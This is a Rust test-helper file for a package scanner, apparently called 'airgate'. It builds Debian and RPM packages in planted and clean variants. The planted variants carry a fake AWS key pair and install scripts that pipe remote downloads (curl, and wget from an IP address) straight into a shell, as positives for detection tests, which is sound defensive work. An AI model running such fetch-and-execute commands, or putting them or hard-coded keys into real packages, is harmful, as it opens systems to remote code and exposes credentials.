//! Shared by the package-format tests: the planted content (an AWS key pair in a config
//! file, a download piped to a shell in a maintainer script) and its clean twin, the real
//! tools that build packages from them, and `airgate scan` run as JSON.
#![allow(dead_code)]

use assert_cmd::Command;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command as Proc;

pub const KEY_ID: &str = "AKIA2OGYBAH6QW7BZ5JX";
pub const SECRET: &str = "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";

/// A config file holding the key pair (planted) or none (clean).
pub fn config(planted: bool) -> String {
    if planted {
        format!("[default]\naws_access_key_id = {KEY_ID}\naws_secret_access_key = {SECRET}\nregion = eu-west-1\n")
    } else {
        "[default]\nregion = eu-west-1\noutput = json\n".into()
    }
}

/// A maintainer script: a download piped to a shell (planted) or local work (clean).
pub fn script(planted: bool) -> String {
    if planted {
        "#!/bin/sh\nset -e\ncurl -fsSL https://updates.example.net/install.sh | sh\n".into()
    } else {
        "#!/bin/sh\nset -e\nldconfig\nmkdir -p /var/lib/app\n".into()
    }
}

/// Run a tool, failing the test with its output if it fails or is missing.
pub fn run(cmd: &mut Proc) {
    let out = cmd
        .output()
        .unwrap_or_else(|e| panic!("cannot run {cmd:?} ({e}): .ci/run installs it"));
    assert!(
        out.status.success(),
        "{cmd:?} failed: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

pub fn write(p: &Path, d: impl AsRef<[u8]>) {
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(p, d).expect("write");
}

pub fn chmod_x(p: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

/// `airgate scan PATH --format json`: exit code and report.
pub fn scan(path: &Path, extra: &[&str]) -> (i32, Value) {
    let out = Command::cargo_bin("airgate")
        .expect("binary")
        .arg("scan")
        .arg(path)
        .args(extra)
        .args(["--format", "json"])
        .output()
        .expect("run airgate");
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code().expect("exit code"), v)
}

/// (rule, path, severity) of every finding.
pub fn findings(v: &Value) -> Vec<(String, String, String)> {
    v["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap_or("").to_string(),
                f["path"].as_str().unwrap_or("").to_string(),
                f["severity"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

/// The planted positive is caught: the key id in the config file and the pipe in the
/// script, each at a path that ends as given.
pub fn assert_caught(what: &str, v: &Value, config_at: &str, script_at: &str) {
    let f = findings(v);
    assert!(
        f.iter()
            .any(|(r, p, _)| r == "secret.aws-access-key-id" && p.ends_with(config_at)),
        "{what}: key pair in {config_at} not found: {f:#?}"
    );
    assert!(
        f.iter()
            .any(|(r, p, _)| r == "reachback.shell-pipe-exec" && p.ends_with(script_at)),
        "{what}: curl | sh in {script_at} not found: {f:#?}"
    );
}

/// The clean twin has no finding of medium or above.
pub fn assert_quiet(what: &str, v: &Value) {
    let f: Vec<_> = findings(v)
        .into_iter()
        .filter(|(_, _, s)| s != "info" && s != "low")
        .collect();
    assert!(f.is_empty(), "{what}: clean twin has findings: {f:#?}");
}

/// The file tree of a package: `etc/app/config.ini` and, for formats that carry scripts in
/// the tree, `scripts/postinst`.
pub fn tree(dir: &Path, planted: bool) -> PathBuf {
    let root = dir.join(if planted { "planted" } else { "clean" });
    write(&root.join("etc/app/config.ini"), config(planted));
    write(
        &root.join("usr/share/doc/app/README"),
        "An application package used by the tests.\n",
    );
    root
}

/// A Debian package built by `dpkg-deb -Z<comp>` from the tree, with `postinst`.
pub fn deb(dir: &Path, planted: bool, comp: &str) -> PathBuf {
    let root = tree(&dir.join(format!("deb-{comp}")), planted);
    let control = root.join("DEBIAN/control");
    write(
        &control,
        "Package: app\nVersion: 1.0\nArchitecture: all\nMaintainer: Tests <t@example.org>\nDescription: test package\n",
    );
    let post = root.join("DEBIAN/postinst");
    write(&post, script(planted));
    chmod_x(&post);
    let out = dir.join(format!(
        "app-{}-{comp}.deb",
        if planted { "planted" } else { "clean" }
    ));
    run(Proc::new("dpkg-deb")
        .args(["--root-owner-group", &format!("-Z{comp}"), "--build"])
        .arg(&root)
        .arg(&out));
    out
}

/// An RPM built by `rpmbuild` with the payload `w<payload>` (e.g. `19.zstdio`), holding
/// the config file, a `%post` scriptlet and a trigger.
pub fn rpm(dir: &Path, planted: bool, payload: &str) -> PathBuf {
    let top = dir.join(format!("rpm-{}", payload.replace('.', "-")));
    let src = top.join("SOURCES");
    write(&src.join("config.ini"), config(planted));
    let trigger = if planted {
        "wget -qO- http://198.51.100.7/t | bash"
    } else {
        "true"
    };
    let spec = format!(
        "Name: app\nVersion: 1.0\nRelease: 1\nSummary: test\nLicense: MIT\nBuildArch: noarch\n\
         %description\ntest package\n%install\nmkdir -p %{{buildroot}}/etc/app\n\
         cp %{{_sourcedir}}/config.ini %{{buildroot}}/etc/app/config.ini\n\
         %files\n/etc/app/config.ini\n%post\n{}\n%triggerin -- bash\n{trigger}\n",
        script(planted).trim_start_matches("#!/bin/sh\n")
    );
    let spec_path = top.join("app.spec");
    write(&spec_path, spec);
    run(Proc::new("rpmbuild")
        .arg("--define")
        .arg(format!("_topdir {}", top.display()))
        .arg("--define")
        .arg(format!("_binary_payload w{payload}"))
        .args(["--quiet", "-bb"])
        .arg(&spec_path));
    let rpm = top.join("RPMS/noarch/app-1.0-1.noarch.rpm");
    assert!(rpm.is_file(), "rpmbuild wrote no {}", rpm.display());
    let out = dir.join(format!(
        "app-{}-{}.rpm",
        if planted { "planted" } else { "clean" },
        payload.replace('.', "-")
    ));
    std::fs::rename(&rpm, &out).expect("move rpm");
    out
}
